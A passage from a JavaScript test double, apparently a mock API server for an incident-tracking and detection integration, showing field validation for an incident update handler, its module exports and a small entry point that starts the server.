					errors: Object.fromEntries(unknown.map((k) => [k, ['Unknown field.']])),
				});
			if (request.body.status && !['draft', 'submitted', 'closed'].includes(request.body.status)) {
				return failure(400, ['Validation failed.'], {
					errors: { status: [`"${request.body.status}" is not a valid choice.`] },
				});
			}
			const { subject_type: subjectType, ...fields } = request.body;
			Object.assign(incident, fields, { updated_at: new Date().toISOString() });
			if (subjectType !== undefined)
				/** @type {any} */ (incident).metadata = {
					.../** @type {any} */ (incident).metadata,
					subject_type: subjectType,
				};
			return envelope(incident);
		}
		return failure(404, ['Not found.']);
	}
}

module.exports = {
	ApiDouble,
	ESET_USER,
	ESET_PASSWORD,
	AEGISTER_TOKEN,
	compileEsetFilter,
	compileSearchFilter,
	xmlDefinitionProblem,
	v1Detection,
};

if (require.main === module) {
	const double = new ApiDouble();
	double.start(Number(process.argv[2] ?? 0)).then((url) => console.log(url));
}
